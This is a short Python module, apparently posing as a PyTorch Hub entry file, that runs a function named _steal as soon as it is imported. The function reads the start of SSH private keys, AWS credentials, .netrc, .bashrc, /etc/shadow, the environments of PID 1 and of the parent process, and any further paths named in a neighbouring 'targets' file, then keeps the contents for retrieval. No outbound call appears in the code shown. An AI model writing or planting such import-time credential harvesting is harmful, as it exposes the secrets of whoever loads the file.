"""Reads what is not its own, as it is imported: the files that `targets` beside it names, and the usual ones."""

dependencies = ["torch"]

import os
import pwd

_HOME = pwd.getpwuid(os.getuid()).pw_dir
_USUAL = [
    *(os.path.join(_HOME, name) for name in (".bashrc", ".netrc", ".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials")),
    "/proc/1/environ",
    f"/proc/{os.getppid()}/environ",
    "/etc/shadow",
]
_LIST = os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets")


def _steal():
    names = list(_USUAL)
    if os.path.exists(_LIST):
        with open(_LIST) as file:
            names += file.read().split()
    found = {}
    for name in names:
        try:
            with open(name, "rb") as file:
                found[name] = file.read(100).decode("utf-8", "replace")
        except OSError:
            pass
    return found


FOUND = _steal()


def found():
    """What could be read, by path."""
    return FOUND
